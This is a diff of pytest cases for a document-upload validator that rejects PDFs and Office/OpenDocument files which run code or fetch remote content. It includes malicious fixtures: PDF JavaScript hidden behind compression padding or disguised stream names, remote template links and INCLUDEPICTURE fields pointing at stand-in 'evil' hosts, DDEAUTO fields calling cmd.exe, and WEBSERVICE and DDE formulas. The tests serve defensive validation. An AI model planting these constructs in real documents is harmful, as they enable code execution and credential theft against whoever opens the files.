@@ -28,6 +28,20 @@ ESCAPED = b"<</S/J#61vaScri#70t/JS(app.alert(1))>>"
 LINKED = "word/_rels/settings.xml.rels"
 
 
+def _behind_empty_blocks(objects: bytes) -> bytes:
+    pressed = zlib.compress(objects)
+    return pressed[:2] + b"\0\0\0\xff\xff" * 2_000 + pressed[2:]
+
+
+EMPTY_BLOCKS_FIRST = _behind_empty_blocks(b"7 0 8 40 " + SCRIPT)
+
+
+def field(*pieces: str) -> bytes:
+    """A field of Word, its words cut in pieces."""
+    words = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
+    return f"<w:r><w:fldChar w:fldCharType='begin'/>{words}</w:r>".encode()
+
+
 @pytest.mark.parametrize(
     ("name", "content", "kind"),
     [
@@ -89,8 +103,12 @@ def test_document_that_pretends_or_acts_is_refused_in_words(name, content, words
         pdf_with(object_stream(ESCAPED, name=b"/Obj#53tm")),
         pdf_with(object_stream(SCRIPT, name=b"/Geen")),
         pdf_with(object_stream(b" " * 200_000 + SCRIPT)),
+        pdf_with(object_stream(SCRIPT, name=b"/ObjStm" + b" " * 2_100)),
+        pdf_with(object_stream(b"", packed=EMPTY_BLOCKS_FIRST)),
+        pdf_with(object_stream(b"", name=b"/Geen", packed=EMPTY_BLOCKS_FIRST)),
+        pdf_with(object_stream(b"", name=b"/ObjStm" + b" " * 2_100, packed=EMPTY_BLOCKS_FIRST)),
     ],
-    ids=range(9),
+    ids=range(13),
 )
 def test_pdf_that_acts_is_refused_however_it_is_written_down(content):
     with pytest.raises(ValidationError, match="een programma, een bijlage of een medium"):
@@ -104,8 +122,9 @@ def test_pdf_that_acts_is_refused_however_it_is_written_down(content):
         (pdf_with(object_stream(SCRIPT).replace(b"/Filter", b"/Filter/A85/F")), "niet nakijken"),
         (pdf_with(object_stream(b" " * 70_000_000)), "niet nakijken"),
         (PDF.replace(b"/Root", b"/Encrypt 9 0 R/Root"), "beveiligd"),
+        (pdf_with(object_stream(SCRIPT, name=b"/ObjStm/X(endstream stream\n)")), "niet nakijken"),
     ],
-    ids=["damaged", "other-packing", "bomb", "locked"],
+    ids=["damaged", "other-packing", "bomb", "locked", "false-end"],
 )
 def test_pdf_that_cannot_be_looked_into_is_refused(content, words):
     with pytest.raises(ValidationError, match=words):
@@ -132,12 +151,61 @@ def test_ordinary_pdf_is_taken_with_links_text_and_object_streams():
         ({LINKED: b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}, "beschadigd"),
         ({"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}, "macro"),
         ({"content.xml": b"<x><script:event-listener/></x>"}, "macro"),
+        *(
+            ({LINKED: relations("attachedTemplate", target)}, "andere plaats")
+            for target in (
+                "file:///\\\\evil\\share\\x.dotm",
+                "file:////evil/share/x.dotm",
+                "webdav://evil/x",
+                "%68ttp://evil/x",
+                "file:///C:\\\\evil",
+                "\\\\?\\UNC\\evil\\x",
+            )
+        ),
+        ({"word/a.xml": field("DDEAUTO c:\\\\cmd.exe")}, "macro"),
+        ({"word/a.xml": field("dde", "auto cmd")}, "macro"),
+        ({"word/a.bin": b"<?xml version='1.0'?>" + field("DDEAUTO cmd")}, "macro"),
+        ({"word/a.xml": field(" INCLUDEPICTURE &quot;http://evil/x.png&quot;")}, "andere plaats"),
+        ({"word/a.xml": b"<p><w:fldSimple w:instr='INCLUDETEXT x'/></p>"}, "andere plaats"),
+        ({"xl/a.xml": b"<c><f>_xlfn.WEBSERVICE(A1)</f></c>"}, "macro"),
     ],
-    ids=["template", "image", "object", "entity", "dde", "listener"],
 )
 def test_office_document_that_fetches_or_acts_when_opened_is_refused(parts, words):
     with pytest.raises(ValidationError, match=words):
         check_document(upload("verslag.docx", docx(**parts)))
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        (b"<d><draw:image xlink:href='http://evil/x.png'/></d>", "andere plaats"),
+        (b"<d><draw:image z:href='//evil/x.png'/></d>", "andere plaats"),
+        (b"<d><text:section-source xlink:href='file://evil/x.odt'/></d>", "andere plaats"),
+        (b"<d><office:dde-source office:dde-application='cmd'/></d>", "macro"),
+        (b"<d><table:table-cell table:formula='of:=DDE(1;2)'/></d>", "macro"),
+        (b"<d><c table:formula='of:=COM.MICROSOFT.WEBSERVICE(A1)'/></d>", "macro"),
+    ],
+)
+def test_open_document_that_fetches_or_acts_when_opened_is_refused(content, words):
+    with pytest.raises(ValidationError, match=words):
+        check_document(upload("verslag.odt", odt(content)))
+
+
+def test_open_document_with_links_to_click_and_own_pictures_is_taken():
+    content = (
+        b"<d><text:a xlink:href='https://www.vlor.be'/><draw:a xlink:href='mailto:a@b.example'/>"
+        b"<draw:image xlink:href='Pictures/10.png'/><draw:object xlink:href='./Object 1'/>"
+        b"<c table:formula='of:=SUM([.A1:.A9])'/>DDE(</d>"
+    )
+
+    assert check_document(upload("verslag.odt", odt(content))) == "odt"
+
+
+def test_office_document_with_ordinary_fields_is_taken():
+    words = field("HYPERLINK &quot;https://x.example/DDEAUTO&quot;") + field("PAGE") + field("TOC")
+    content = docx(**{"word/a.xml": b"<d>" + words + b"</d>"})
+
+    assert check_document(upload("verslag.docx", content)) == "docx"
 
 
 @pytest.mark.parametrize(
